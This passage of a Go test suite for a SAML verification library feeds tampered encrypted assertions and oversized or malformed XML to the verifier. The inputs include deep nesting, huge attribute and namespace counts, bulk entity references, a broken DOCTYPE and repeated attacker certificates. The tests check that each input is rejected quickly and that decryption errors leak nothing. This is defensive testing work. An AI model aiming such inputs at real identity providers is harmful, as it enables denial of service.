			a.RemoveChild(a.SelectElement("Signature"))
			a.SelectElement("Conditions").CreateAttr("NotOnOrAfter", "2026-03-01T12:00:00Z")
			signer{by: idp()}.sign(a)
			return string(write(a))
		}, samlxml.CauseExpired},
	}
	for name, c := range inside {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root := signed(genuine(), byAssertion, signer{})
			assertion := root.SelectElement("Assertion")
			root.RemoveChild(assertion)
			root.AddChild(sealing{}.seal([]byte(c.plain(assertion))))
			refused(t, write(root), expect(), c.want)
		})
	}
}

// Whatever is wrong with what was encrypted, the answer is the same.
func TestDecryptionTellsNothing(t *testing.T) {
	t.Parallel()
	var texts []string
	for _, edit := range []func(root *etree.Element){
		func(root *etree.Element) { root.FindElement(".//EncryptedKey/CipherData/CipherValue").SetText("AAAA") },
		func(root *etree.Element) {
			root.FindElement(".//EncryptedKey/CipherData/CipherValue").SetText(b64(make([]byte, 256)))
		},
		func(root *etree.Element) {
			root.FindElement(".//EncryptedData/CipherData/CipherValue").SetText(b64(make([]byte, 28)))
		},
		func(root *etree.Element) { root.FindElement(".//EncryptedData/CipherData/CipherValue").SetText("?") },
	} {
		root := encrypted(signed(genuine(), byAssertion, signer{}), sealing{})
		edit(root)
		_, _, err := samlxml.Verify(write(root), expect())
		texts = append(texts, fmt.Sprint(err))
	}
	for _, text := range texts {
		if text != texts[0] {
			t.Errorf("%q and %q", texts[0], text)
		}
	}
}

func TestBoundedTimeAndMemory(t *testing.T) {
	raw := string(write(signed(genuine(), byAssertion, signer{})))
	inside := func(extra string) string {
		return strings.Replace(raw, "</saml:AttributeStatement>", extra+"</saml:AttributeStatement>", 1)
	}
	many := func(n int, format string) string {
		var all strings.Builder
		for i := range n {
			fmt.Fprintf(&all, format, i)
		}
		return all.String()
	}
	for name, text := range map[string]string{
		"1e5 levels":                 strings.Repeat("<a>", 1e5),
		"1e5 levels that end":        strings.Repeat("<a>", 1e5) + strings.Repeat("</a>", 1e5),
		"1e5 elements":               inside(strings.Repeat("<a/>", 1e5)),
		"1e5 attributes":             inside("<a" + many(1e5, ` a%d=""`) + "/>"),
		"1e5 namespaces":             inside("<a" + many(1e5, ` xmlns:a%d=""`) + "/>"),
		"1e5 namespaces, each alone": inside(many(1e5/8, `<a xmlns:a%d=""/>`)),
		"10 MB of text":              inside("<a>" + strings.Repeat("a", 10<<20) + "</a>"),
		"10 MB of spaces":            strings.Repeat(" ", 10<<20) + raw,
		"1 MB of text":               inside("<a>" + strings.Repeat("a", 1e6) + "</a>"),
		"1 MB of references":         inside("<a>" + strings.Repeat("&#65;", 2e5) + "</a>"),
		"1 MB of CDATA":              inside("<a>" + strings.Repeat("<![CDATA[]]>", 8e4) + "</a>"),
		"1 MB of <":                  strings.Repeat("<", 1e6),
		"1 MB of &":                  strings.Repeat("&", 1e6),
		"1 MB in an attribute":       inside(`<a b="` + strings.Repeat("a", 1e6) + `"/>`),
		"1 MB of a name":             inside("<" + strings.Repeat("a", 1e6) + "/>"),
		"1 MB of DOCTYPE":            "<!DOCTYPE " + strings.Repeat("[<", 4e5) + raw,
		"as much as is allowed":      inside(strings.Repeat("<a "+many(7, ` b%d=""`)+` xmlns:c="urn:c"><c:d/></a>`, 1500)),
		"as deep as is allowed":      inside(strings.Repeat(strings.Repeat(`<a xmlns:b="urn:b">`, 20)+strings.Repeat("</a>", 20), 290)),
		"many signatures":            inside(strings.Repeat(`<ds:Signature xmlns:ds="`+nsD+`"/>`, 5000)),
		"many certificates":          strings.Replace(raw, "<ds:X509Certificate>", strings.Repeat("<ds:X509Certificate>"+b64(attacker().cert.Raw)+"</ds:X509Certificate>", 800)+"<ds:X509Certificate>", 1),
	} {
		t.Run(name, func(t *testing.T) {
			document := []byte(text)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, _, err := samlxml.Verify(document, expect())
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			allocated := (after.TotalAlloc - before.TotalAlloc) >> 20
			if err == nil {
				t.Error("accepted")
			}
			t.Logf("%v, %d MiB: %v", took, allocated, err)
			if took > time.Second || allocated > 64 {
				t.Errorf("took %v and allocated %d MiB", took, allocated)
			}
		})
	}
}
